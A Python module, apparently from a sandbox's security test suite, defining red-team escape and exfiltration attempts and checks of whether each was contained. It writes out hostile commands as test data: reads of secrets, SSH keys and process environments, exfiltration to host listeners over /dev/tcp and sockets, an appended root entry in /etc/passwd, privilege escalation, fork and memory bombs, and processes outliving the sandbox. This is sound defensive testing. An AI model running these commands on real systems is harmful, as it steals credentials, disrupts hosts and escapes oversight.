"""The escape and exfiltration attempts of the red-team battery, one entry each in `ATTEMPTS`.

An attempt runs against a started sandbox and the `Target` (what an attacker inside would aim
at: the canaries' paths, the pid of the process that starts sandboxes, listeners on the host's
loopback, a world-writable host directory). It returns an `Outcome`: whether it was contained,
with everything it saw. The battery (battery.py) adds one rule of its own: an outcome whose
output holds a canary is never contained.

Most attempts are one shell command and a test of what it printed or left on the host
(`command`); the rest (`@attempt`) need the host side too: symlinks the host then follows,
snapshots, fork bombs, processes that try to outlive their command or the sandbox.
Placeholders `@name@` in a command are filled from `Target.fields()`.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import re
import tarfile
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path

from runtime.sandbox import CommandResult, Sandbox, WorkspacePathError
from tests.security.canaries import Canaries


@dataclass
class Target:
    """What the attempts aim at on the host, and what the host's listeners received."""

    canaries: Canaries
    host_pid: int  # the process that starts the sandboxes (the daemon)
    host_dir: Path  # world-writable, in the host's /tmp
    snapshot_dir: Path
    tcp_port: int
    udp_port: int
    abstract_socket: str  # an abstract unix socket name (without the leading NUL)
    engine_socket: str  # the container engine's socket path, or ""
    marker: str  # digits, unique to this run: names planted files and sleeps
    memory_bytes: int
    received: list[str] = field(default_factory=list)  # what the host's listeners got

    def fields(self) -> dict[str, str]:
        c = self.canaries
        return {
            "secrets_file": c.secrets_file,
            "config_file": c.config_file,
            "config_dir": str(Path(c.config_file).parent),
            "database": c.database,
            "home": c.home,
            "host_pid": str(self.host_pid),
            "host_dir": str(self.host_dir),
            "tcp_port": str(self.tcp_port),
            "udp_port": str(self.udp_port),
            "abstract": self.abstract_socket,
            "engine_socket": self.engine_socket or "/var/run/docker.sock",
            "marker": self.marker,
        }

    def fill(self, template: str) -> str:
        values = self.fields()
        return re.sub(r"@(\w+)@", lambda match: values[match.group(1)], template)


@dataclass(frozen=True)
class Outcome:
    contained: bool
    output: str  # everything the attempt saw, scanned for canaries
    detail: str = ""  # how it got out, when it did


Probe = Callable[[Sandbox, Target], Awaitable[Outcome]]
Escaped = Callable[[CommandResult, Target], str | None]  # how it got out, or None


@dataclass(frozen=True)
class Attempt:
    name: str
    kind: str  # read, process, workspace, network, resources, write, device, privilege
    what: str
    probe: Probe
    command: str = ""  # for a one-command attempt: its template (replays run it as a model's)
    escaped: Escaped | None = None


ATTEMPTS: list[Attempt] = []


def command(name: str, kind: str, what: str, template: str, escaped: Escaped | None = None) -> None:
    """An attempt that is one shell command; `escaped` tells from its result and the host's
    state whether it got out (the canary check applies to every attempt anyway)."""

    async def probe(sandbox: Sandbox, target: Target) -> Outcome:
        result = await sandbox.run(target.fill(template), timeout_s=20)
        why = escaped(result, target) if escaped else None
        return Outcome(why is None, result.output, why or "")

    ATTEMPTS.append(Attempt(name, kind, what, probe, template, escaped))


def attempt(name: str, kind: str, what: str) -> Callable[[Probe], Probe]:
    def register(probe: Probe) -> Probe:
        ATTEMPTS.append(Attempt(name, kind, what, probe))
        return probe

    return register


def printed(marker: str) -> Escaped:
    return lambda result, target: f"printed {marker}" if marker in result.output else None


def listener_got_anything(result: CommandResult, target: Target) -> str | None:
    return f"a host listener received {target.received}" if target.received else None


def host_paths_exist(*templates: str) -> Escaped:
    def escaped(result: CommandResult, target: Target) -> str | None:
        found = [path for path in map(target.fill, templates) if os.path.lexists(path)]
        return f"wrote {', '.join(found)}" if found else None

    return escaped


# -- reads of known and guessed paths --------------------------------------------------------

command("system-secrets-file", "read", "the system install's secrets file",
        "cat /etc/temper/secrets.toml; ls -la /etc/temper")  # fmt: skip
command("planted-secrets-file", "read", "the secrets file, by its exact host path", "cat @secrets_file@")
command("config-dir", "read", "temper's config dir", "cat @config_file@; cat @config_dir@/*")
command(
    "database",
    "read",
    "temper's SQLite database, as a file and through sqlite3",
    """cat @database@; python3 -c "import sqlite3; print(sqlite3.connect('@database@').execute('select * from secrets').fetchall())" """,
)
command("home-files", "read", "the daemon's ssh key and shell history",
        "ls -la @home@; cat @home@/.ssh/id_ed25519 @home@/.bash_history")  # fmt: skip
command(
    "guessed-homes",
    "read",
    "every home directory's temper files and history",
    "ls -la /home /root; cat /root/.config/temper/* /home/*/.config/temper/* /home/*/.local/share/temper/* "
    "/root/.local/share/temper/* /root/.bash_history /home/*/.bash_history /home/*/.ssh/*",
)
command("guessed-system-dirs", "read", "/var/lib/temper, /etc/temper, /run/secrets, /srv, /opt",
        "cat /var/lib/temper/* /var/lib/temper/*/* /etc/temper/* /run/secrets/* /srv/* /opt/*/.env")  # fmt: skip
command(
    "filesystem-search",
    "read",
    "find every toml, db, key and history file and print it",
    r"find / \( -path /proc -o -path /sys -o -path /usr -o -path /dev \) -prune -o -type f "
    r"\( -name '*.toml' -o -name '*.db' -o -name 'id_*' -o -name '.*history' -o -name '.env' \) "
    r"-print -exec cat {} + 2>/dev/null",
)
command("grep-everywhere", "read", "grep the whole visible filesystem for canaries",
        "grep -rsaoh 'CANARY-[a-z_]*-[0-9a-f]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr")  # fmt: skip


def host_users_visible(result: CommandResult, target: Target) -> str | None:
    import pwd

    name = pwd.getpwuid(os.getuid()).pw_name
    visible = name not in ("root", "nobody") and re.search(rf"^{re.escape(name)}:", result.output, re.M)
    return f"the host's user {name} is listed" if visible else None


command("host-users", "read", "the host's /etc/passwd and /etc listing", "cat /etc/passwd /etc/group; ls /etc",
        host_users_visible)  # fmt: skip

# -- the daemon's process: environment, command line, root, memory -----------------------------

command("own-environment", "process", "the command's own environment",
        r"env; tr '\0' '\n' < /proc/self/environ")  # fmt: skip
command("pid1-environment", "process", "pid 1's environment and command line",
        r"tr '\0' '\n' < /proc/1/environ; tr '\0' ' ' < /proc/1/cmdline")  # fmt: skip
command(
    "every-process",
    "process",
    "every visible process's environment and command line",
    r"for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ; tr '\0' ' ' < $p/cmdline; echo; done",
)
command(
    "starter-process",
    "process",
    "the daemon's /proc entries by its host pid, and the parent's",
    r"cat /proc/@host_pid@/environ /proc/@host_pid@/cmdline /proc/$PPID/environ | tr '\0' '\n'",
)
command(
    "proc-root",
    "process",
    "host files through /proc/PID/root and cwd",
    "cat /proc/1/root/etc/temper/secrets.toml /proc/@host_pid@/root@secrets_file@ /proc/@host_pid@/cwd/*; "
    "ls /proc/1/root/ /proc/@host_pid@/fd",
)
command(
    "mountinfo-paths",
    "process",
    "learn the workspace's host path from mountinfo and climb from it",
    'src=$(awk \'$5=="/workspace" {print $4}\' /proc/self/mountinfo); echo "$src"; '
    'ls -la "$src/.." "$src/../.."; cat "$src"/../../../home/.bash_history "$src"/../../../home/.ssh/*',
)
command(
    "ptrace",
    "process",
    "attach to the daemon's process with ptrace (PTRACE_SEIZE: it would not stop it)",
    """python3 - <<'EOF'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(0x4206, @host_pid@, 0, 0) == 0:
    print("ATTACHED")
else:
    print("ptrace failed, errno", ctypes.get_errno())
EOF""",
    printed("ATTACHED"),
)

# -- out of the workspace ---------------------------------------------------------------------

command(
    "dotdot",
    "workspace",
    "climb out of the workspace with ..",
    "cat ../etc/temper/secrets.toml ../../../../../../..@secrets_file@ ../../../../../..@home@/.bash_history; "
    "cd ..; ls -la; cd ..; ls -la",
)
command("hardlink", "workspace", "hard-link the secrets file into the workspace",
        "ln @secrets_file@ hard1; ln /etc/temper/secrets.toml hard2; cat hard1 hard2")  # fmt: skip


@attempt("symlink-read", "workspace", "plant symlinks to secrets; read them inside and from the host")
async def symlink_read(sandbox: Sandbox, target: Target) -> Outcome:
    result = await sandbox.run(
        target.fill("ln -s @secrets_file@ leak; ln -s @home@ home; ln -s / root; "
                    "cat leak root@database@; ls home/ home/.ssh"),
        timeout_s=10,
    )  # fmt: skip
    seen = [result.output]
    for path in ("leak", "home/.bash_history", f"root{target.canaries.database}"):
        try:
            seen.append((await sandbox.read_file(path)).decode("latin-1"))
        except (WorkspacePathError, FileNotFoundError, PermissionError) as refused:
            seen.append(f"host refused {path}: {refused}")
    return Outcome(True, "\n".join(seen))


@attempt("symlink-write", "workspace", "plant symlinks out; the host writes through them")
async def symlink_write(sandbox: Sandbox, target: Target) -> Outcome:
    await sandbox.run(target.fill("ln -s @host_dir@/victim out.txt; ln -s @host_dir@ outdir"), timeout_s=10)
    refusals = []
    for path in ("out.txt", "outdir/planted"):
        try:
            await sandbox.write_file(path, "pwned")
        except (WorkspacePathError, FileNotFoundError, PermissionError) as refused:
            refusals.append(str(refused))
    written = [name for name in ("victim", "planted") if (target.host_dir / name).exists()]
    return Outcome(not written, "\n".join(refusals), f"the host wrote {written}" if written else "")


@attempt("snapshot", "workspace", "links and copies of secrets taken into a workspace snapshot")
async def snapshot(sandbox: Sandbox, target: Target) -> Outcome:
    await sandbox.run(
        target.fill("ln -s @secrets_file@ s1; ln -s @database@ s2; ln -s / slash; "
                    "cp @secrets_file@ @database@ . ; mkfifo fifo"),
        timeout_s=10,
    )  # fmt: skip
    taken = await sandbox.snapshot(target.snapshot_dir)
    seen = []
    with tarfile.open(taken.path) as tar:
        for member in tar.getmembers():
            extracted = tar.extractfile(member) if member.isreg() else None
            seen.append(f"{member.name} -> {member.linkname}" if member.issym() else member.name)
            if extracted is not None:
                seen.append(extracted.read().decode("latin-1"))
    return Outcome(True, "\n".join(seen))


# -- the network ------------------------------------------------------------------------------

CONNECT = """python3 - <<'EOF'
import socket
for family, address in @addresses@:
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"exfiltrated")
        print("CONNECTED", address)
    except OSError as exc:
        print("blocked", address, exc)
EOF"""
command("tcp-host-loopback", "network", "connect to a listener on the host's 127.0.0.1",
        CONNECT.replace("@addresses@", "[(socket.AF_INET, ('127.0.0.1', @tcp_port@))]"),
        listener_got_anything)  # fmt: skip
command("dev-tcp", "network", "bash's /dev/tcp to the host listener",
        "bash -c 'echo exfiltrated > /dev/tcp/127.0.0.1/@tcp_port@' && echo CONNECTED",
        lambda r, t: printed("CONNECTED")(r, t) or listener_got_anything(r, t))  # fmt: skip
command(
    "udp-host-loopback",
    "network",
    "a UDP datagram to the host's 127.0.0.1",
    """python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'exfiltrated', ('127.0.0.1', @udp_port@))" """,
    listener_got_anything,
)
command(
    "abstract-unix-socket",
    "network",
    "an abstract unix socket the host listens on (shared by network namespace)",
    CONNECT.replace("@addresses@", "[(socket.AF_UNIX, '\\0@abstract@')]"),
    lambda r, t: printed("CONNECTED")(r, t) or listener_got_anything(r, t),
)
command("external-hosts", "network", "TCP to public resolvers",
        CONNECT.replace("@addresses@", "[(socket.AF_INET, ('1.1.1.1', 53)), (socket.AF_INET, ('8.8.8.8', 53))]"),
        printed("CONNECTED"))  # fmt: skip
command(
    "dns",
    "network",
    "resolve a public name",
    "getent hosts example.com && echo RESOLVED; "
    """python3 -c "import socket; socket.getaddrinfo('example.com', 80); print('RESOLVED')" """,
    printed("RESOLVED"),
)


def other_interfaces(result: CommandResult, target: Target) -> str | None:
    names = {line.split(":")[0].strip() for line in result.output.splitlines() if ":" in line}
    return f"interfaces {sorted(names - {'lo'})}" if names - {"lo"} else None


command("interfaces", "network", "network interfaces besides loopback", "tail -n +3 /proc/net/dev",
        other_interfaces)  # fmt: skip
command(
    "engine-socket",
    "network",
    "the container engine's socket",
    "for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock @engine_socket@; do "
    "test -S $s && echo SOCKET $s; done; "
    + CONNECT.replace("@addresses@", "[(socket.AF_UNIX, '@engine_socket@')]"),
    lambda r, t: printed("SOCKET")(r, t) or printed("CONNECTED")(r, t),
)

# -- writes outside the workspace ---------------------------------------------------------------

command("write-usr", "write", "files in /usr and /usr/bin",
        "touch /usr/planted-@marker@; echo x > /usr/bin/planted-@marker@",
        host_paths_exist("/usr/planted-@marker@", "/usr/bin/planted-@marker@"))  # fmt: skip


def _sha(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest() if os.path.exists(path) else ""


@attempt("write-etc", "write", "a new file in /etc, and appends to /etc/passwd and /etc/hosts")
async def write_etc(sandbox: Sandbox, target: Target) -> Outcome:
    before = {path: _sha(path) for path in ("/etc/passwd", "/etc/hosts")}
    result = await sandbox.run(
        target.fill("echo x > /etc/planted-@marker@; echo 'x::0:0::/:/bin/sh' >> /etc/passwd; "
                    "echo x >> /etc/hosts"),
        timeout_s=10,
    )  # fmt: skip
    changed = [path for path, digest in before.items() if _sha(path) != digest]
    changed += [path for path in [target.fill("/etc/planted-@marker@")] if os.path.lexists(path)]
    return Outcome(not changed, result.output, f"changed {changed}" if changed else "")


command("write-host-tmp", "write", "a world-writable directory in the host's /tmp",
        "echo x > @host_dir@/planted; ls -la @host_dir@", host_paths_exist("@host_dir@/planted"))  # fmt: skip
command("write-root", "write", "new entries at /",
        "touch /planted-@marker@; mkdir /planted-dir-@marker@",
        host_paths_exist("/planted-@marker@", "/planted-dir-@marker@"))  # fmt: skip


@attempt("write-home", "write", "the daemon's shell rc and its config file")
async def write_home(sandbox: Sandbox, target: Target) -> Outcome:
    config = target.canaries.config_file
    before = _sha(config) if os.access(config, os.R_OK) else ""
    result = await sandbox.run(target.fill("echo x >> @home@/.bashrc; echo x >> @config_file@"), 10)
    changed = [path for path in [target.fill("@home@/.bashrc")] if os.path.lexists(path)]
    if before and _sha(config) != before:
        changed.append(config)
    return Outcome(not changed, result.output, f"changed {changed}" if changed else "")


# -- devices and privileges ---------------------------------------------------------------------

READ_EACH = "for d in {paths}; do head -c 16 $d >/dev/null 2>&1 && echo READ $d; done; ls /dev"
command("disk-devices", "device", "raw disks",
        READ_EACH.format(paths="/dev/sda /dev/vda /dev/xvda /dev/nvme0n1 /dev/mmcblk0 /dev/dm-0"),
        printed("READ"))  # fmt: skip
command("memory-devices", "device", "physical and kernel memory",
        READ_EACH.format(paths="/dev/mem /dev/kmem /dev/port /proc/kcore"), printed("READ"))  # fmt: skip
command("mknod", "device", "make a disk or memory device node and read it",
        "mknod disk b 8 0 && head -c 16 disk >/dev/null && echo READ disk; "
        "mknod /tmp/mem c 1 1 && head -c 16 /tmp/mem >/dev/null && echo READ mem", printed("READ"))  # fmt: skip
command("mount", "privilege", "mount a filesystem (tmpfs, a bind of /, a proc)",
        "mkdir -p /tmp/m; mount -t tmpfs none /tmp/m && echo MOUNTED tmpfs; "
        "mount --bind / /tmp/m && echo MOUNTED bind; mount -t proc proc /tmp/m && echo MOUNTED proc",
        printed("MOUNTED"))  # fmt: skip
command("unshare", "privilege", "make new user and mount namespaces (root inside them)",
        "unshare -r -m sh -c 'echo UNSHARED; cat /etc/temper/secrets.toml'; unshare -U true && echo UNSHARED",
        printed("UNSHARED"))  # fmt: skip


def became_root(result: CommandResult, target: Target) -> str | None:
    lines = result.output.strip().splitlines()
    return "ran as root" if "uid=0(" in result.output or (lines and lines[-1] == "0") else None


command("root", "privilege", "become root (sudo, su) and say who we are",
        "sudo -n id; su root -c id < /dev/null; id -u", became_root)  # fmt: skip

# -- resources and processes that try to outlive their command -----------------------------------


def host_processes_with(text: str) -> list[int]:
    """Host pids whose command line holds `text` (readable for every process)."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if text.encode() in Path(entry.path, "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue  # it ended while we looked
    return found


async def answers(sandbox: Sandbox) -> bool:
    return (await sandbox.run("echo alive", timeout_s=20)).output == "alive\n"


@attempt("fork-bomb", "resources", "a fork bomb: stopped by the pids limit; the sandbox answers after")
async def fork_bomb(sandbox: Sandbox, target: Target) -> Outcome:
    result = await sandbox.run("bomb() { bomb | bomb & }; bomb; sleep 30", timeout_s=2)
    host = await asyncio.create_subprocess_exec("true")
    host_ok = await asyncio.wait_for(host.wait(), 10) == 0
    alive = await answers(sandbox)
    problems = [
        *(["it ran past 15 s"] if result.duration_s > 15 else []),
        *([] if host_ok else ["the host could not start a process"]),
        *([] if alive else ["the sandbox stopped answering"]),
    ]
    return Outcome(not problems, result.output[-2000:], "; ".join(problems))


@attempt("memory-bomb", "resources", "allocate without end: stopped by the memory limit")
async def memory_bomb(sandbox: Sandbox, target: Target) -> Outcome:
    bomb = "python3 -c \"x = []\nwhile True: x.append(b'x' * (16 << 20))\""
    result = await sandbox.run(bomb, timeout_s=30)
    problems = [
        *(["it ran until the timeout"] if result.timed_out else []),
        *(["it exited 0"] if result.exit_code == 0 else []),
        *([] if await answers(sandbox) else ["the sandbox stopped answering"]),
    ]
    return Outcome(not problems, result.output[-2000:], "; ".join(problems))


@attempt("tmpfs-fill", "resources", "fill /tmp and /dev/shm: bounded by their sizes")
async def tmpfs_fill(sandbox: Sandbox, target: Target) -> Outcome:
    result = await sandbox.run(
        "for d in /tmp /dev/shm; do i=0; while [ $i -lt 12 ]; do i=$((i+1)); "
        "head -c 60M /dev/zero > $d/fill$i 2>/dev/null || break; done; done; "
        "du -smc /tmp /dev/shm 2>/dev/null | tail -n 1",
        timeout_s=30,
    )
    sizes = re.findall(r"^(\d+)\s+total", result.output, re.M)
    held_mb = int(sizes[-1]) if sizes else 0
    limit_mb = 2 * (target.memory_bytes >> 20)  # /tmp at most the memory limit, /dev/shm less
    problems = [
        *([f"held {held_mb} MiB"] if held_mb > limit_mb else []),
        *(["it ran until the timeout"] if result.timed_out else []),
        *([] if await answers(sandbox) else ["the sandbox stopped answering"]),
    ]
    return Outcome(not problems, result.output, "; ".join(problems))


@attempt("orphan-after-command", "resources", "daemonised processes that try to outlive their command")
async def orphan_after_command(sandbox: Sandbox, target: Target) -> Outcome:
    sleep = f"313.{target.marker}"
    result = await sandbox.run(
        f"(setsid nohup sleep {sleep} >/dev/null 2>&1 &); "
        "(setsid sh -c 'while :; do date +%s%N > beat; sleep 0.05; done' >/dev/null 2>&1 &); "
        "sleep 0.3; echo started",
        timeout_s=10,
    )
    await asyncio.sleep(0.3)
    first = await sandbox.run("cat beat", 10)
    await asyncio.sleep(0.3)
    second = await sandbox.run("cat beat", 10)
    survivors = host_processes_with(sleep)
    problems = [
        *([f"host pids {survivors} still run it"] if survivors else []),
        *(["the heartbeat still beats"] if first.output != second.output else []),
    ]
    return Outcome(not problems, result.output, "; ".join(problems))


@attempt("orphan-after-stop", "resources", "a process started by a timed-out command, then stop()")
async def orphan_after_stop(sandbox: Sandbox, target: Target) -> Outcome:
    # A sandbox of its own: this one is stopped while its command is still being killed.
    fresh = type(sandbox)(sandbox.options)
    await fresh.start()
    sleep = f"317.{target.marker}"
    try:
        await fresh.run(f"(setsid nohup sleep {sleep} >/dev/null 2>&1 &); sleep 30", timeout_s=0.5)
    finally:
        await fresh.stop()
    await asyncio.sleep(0.5)
    survivors = host_processes_with(sleep)
    return Outcome(not survivors, "", f"host pids {survivors} outlived stop()" if survivors else "")
